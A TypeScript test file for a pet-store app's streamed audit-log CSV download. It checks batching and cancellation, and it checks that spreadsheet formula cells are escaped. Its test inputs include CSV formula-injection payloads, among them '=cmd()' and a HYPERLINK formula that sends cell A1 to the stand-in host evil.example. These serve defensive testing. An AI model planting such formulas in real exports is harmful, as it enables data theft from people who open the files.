/**
 * The CSV stream of the downloads (src/server/csv-download.ts), on the audit log's shape: it reads a batch only when the reader asks for more, fails
 * (so the download breaks off) when reading a batch fails instead of ending short, stops reading when the
 * reader goes away, and writes the same lines whatever the batching. Every cell a spreadsheet could run as a
 * formula is escaped, whatever follows its first character.
 */
import type { AuditLogEntry } from "@petstore/core";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { AUDIT_CSV } from "../../src/server/audit-csv";
import { csvLines, csvStream } from "../../src/server/csv-download";

const auditCsvLines = (rows: AuditLogEntry[], header = false) => csvLines(AUDIT_CSV, rows, header);
const auditCsvStream = (batches: AsyncGenerator<AuditLogEntry[], void, undefined>) =>
  csvStream(AUDIT_CSV, batches);

const entry = (id: number): AuditLogEntry => ({
  id,
  at: "2026-05-01T10:00:00.000Z",
  actor: "system",
  action: "apiKey.ban",
  entityType: "apiKey",
  entityId: "k",
  entityName: id % 2 ? "=cmd()" : null,
  before: null,
  after: { level: id },
});

async function* batches(count: number, size: number, failAt?: number, log: string[] = []) {
  try {
    for (let b = 0; b < count; b++) {
      log.push(`read ${b}`);
      if (b === failAt) throw new Error("connection lost");
      yield Array.from({ length: size }, (_, i) => entry(b * size + i + 1));
    }
  } finally {
    log.push("closed");
  }
}

const text = async (stream: ReadableStream<Uint8Array>) => new Response(stream).text();

describe("audit CSV stream", () => {
  it("writes the header and every batch's lines, the same as one batch of everything", async () => {
    const csv = await text(auditCsvStream(batches(3, 4)));
    const all = Array.from({ length: 12 }, (_, i) => entry(i + 1));
    expect(csv).toBe(auditCsvLines(all, true));
    expect(csv.split("\r\n")).toHaveLength(14);
    expect(csv).toContain(`"'=cmd()"`);
    expect(await text(auditCsvStream(batches(0, 4)))).toBe(auditCsvLines([], true));
  });

  it("reads the next batch only when the reader asks, and stops when the reader goes away", async () => {
    const log: string[] = [];
    const reader = auditCsvStream(batches(100, 10, undefined, log)).getReader();
    await reader.read();
    await reader.read();
    expect(log).toEqual(["read 0", "read 1"]);
    await reader.cancel();
    expect(log).toEqual(["read 0", "read 1", "closed"]);
  });

  it("fails the download when a batch cannot be read, rather than ending it short", async () => {
    await expect(text(auditCsvStream(batches(5, 10, 2)))).rejects.toThrow("connection lost");
  });
});

describe("audit CSV formula escaping", () => {
  const named = (entityName: string): AuditLogEntry => ({ ...entry(2), entityName });
  const starts = ["=", "+", "-", "@", "\t", "\r"];
  const follows = [
    ["U+2028", "\u2028"],
    ["U+2029", "\u2029"],
    ["LF", "\n"],
    ["CRLF", "\r\n"],
    ["nothing", ""],
    ["a formula holding U+2028", 'HYPERLINK("https://evil.example/?\u2028"&A1,"Open")'],
  ];
  const cases = starts.flatMap((start) => follows.map(([label, rest]) => [start, label, rest] as const));

  it.each(cases)("escapes a cell starting with %j followed by %s", (start, _label, rest) => {
    const value = `${start}${rest}`;
    const [row] = Papa.parse<string[]>(auditCsvLines([named(value)]), { newline: "\r\n" }).data;
    expect(row?.[6]).toBe(`'${value}`);
  });

  it("leaves other cells as they are", () => {
    for (const value of ["Rex", "Rex=1", " =1", "\u2028=1", "'=1"]) {
      const [row] = Papa.parse<string[]>(auditCsvLines([named(value)]), { newline: "\r\n" }).data;
      expect(row?.[6]).toBe(value);
    }
  });
});
